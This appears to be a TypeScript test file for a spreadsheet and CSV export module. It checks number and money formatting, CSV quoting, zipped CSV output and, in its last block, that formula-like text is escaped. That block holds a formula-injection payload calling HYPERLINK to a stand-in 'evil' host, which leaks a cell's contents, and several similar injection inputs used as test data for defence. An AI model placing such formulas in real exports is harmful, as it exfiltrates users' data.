import { read, utils } from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import { csvOf, csvZipOf, workbookOf } from './report.writers';
import { count, money, text, type Sheet } from './sheet';

const spend: Sheet = {
  name: 'Spend',
  columns: [text('Service line'), count('Sessions'), money('Spend')],
  rows: [
    ['POLITICAL_LEADERSHIP', 2, 2_500_00],
    ['COACHING_MENTORING, "mentoring"', 2, 197_92],
    ['Unknown', null, null],
  ],
};
const other: Sheet = { name: 'Overdue', columns: [text('Item')], rows: [] };

describe('workbookOf', () => {
  it.each(['ODS', 'XLSX'] as const)(
    'writes %s with numbers as numbers and money in pounds',
    (format) => {
      const workbook = read(workbookOf([spend, other], format));
      expect(workbook.SheetNames).toEqual(['Spend', 'Overdue']);
      const sheet = workbook.Sheets.Spend;
      expect(utils.sheet_to_json(sheet, { header: 1 })).toEqual([
        ['Service line', 'Sessions', 'Spend'],
        ['POLITICAL_LEADERSHIP', 2, 2500],
        ['COACHING_MENTORING, "mentoring"', 2, 197.92],
        ['Unknown'],
      ]);
      expect(sheet.C3).toMatchObject({ t: 'n', v: 197.92 });
    },
  );
});

describe('csvOf', () => {
  it('writes money with two places and quotes what needs it', () => {
    expect(csvOf(spend)).toBe(
      'Service line,Sessions,Spend\n' +
        'POLITICAL_LEADERSHIP,2,2500.00\n' +
        '"COACHING_MENTORING, ""mentoring""",2,197.92\n' +
        'Unknown,,\n',
    );
  });
});

describe('csvZipOf', () => {
  it('zips one CSV per sheet, numbered in order', () => {
    const files = unzipSync(new Uint8Array(csvZipOf([spend, other])));
    expect(Object.keys(files)).toEqual(['01-spend.csv', '02-overdue.csv']);
    expect(strFromU8(files['02-overdue.csv'])).toBe('Item\n');
    expect(strFromU8(files['01-spend.csv'])).toBe(csvOf(spend));
  });
});

describe('formula-like text', () => {
  const formula = '=HYPERLINK("https://evil/?"&A2,"x")';
  const risky: Sheet = {
    name: 'Sessions',
    columns: [text('Topic'), count('Attendance'), money('Cost')],
    rows: [
      [formula, -3, -12_50],
      ['+447700900123', 1, 1],
      ['-1+2', 0, 0],
      ['@SUM(A1:A9)', null, null],
      ['\tTabbed', null, null],
      ['\uFF1D1+1', null, null],
      ['A plain topic - with a dash', null, null],
    ],
  };

  it('stays text in CSV: a quote before it, numbers left as numbers', () => {
    expect(csvOf(risky)).toBe(
      'Topic,Attendance,Cost\n' +
        `"'=HYPERLINK(""https://evil/?""&A2,""x"")",-3,-12.50\n` +
        "'+447700900123,1,0.01\n" +
        "'-1+2,0,0.00\n" +
        "'@SUM(A1:A9),,\n" +
        "'\tTabbed,,\n" +
        "'\uFF1D1+1,,\n" +
        'A plain topic - with a dash,,\n',
    );
  });

  it('stays text in the zip of CSVs', () => {
    const files = unzipSync(new Uint8Array(csvZipOf([risky])));
    expect(strFromU8(files['01-sessions.csv'])).toContain(`"'=HYPERLINK(`);
  });

  it.each(['ODS', 'XLSX'] as const)('is a string cell in %s, never a formula', (format) => {
    const sheet = read(workbookOf([risky], format)).Sheets.Sessions;
    expect(sheet.A2).toMatchObject({ t: 's', v: formula });
    expect(sheet.A2.f).toBeUndefined();
    expect(sheet.A3).toMatchObject({ t: 's', v: '+447700900123' });
    expect(sheet.A3.f).toBeUndefined();
  });
});
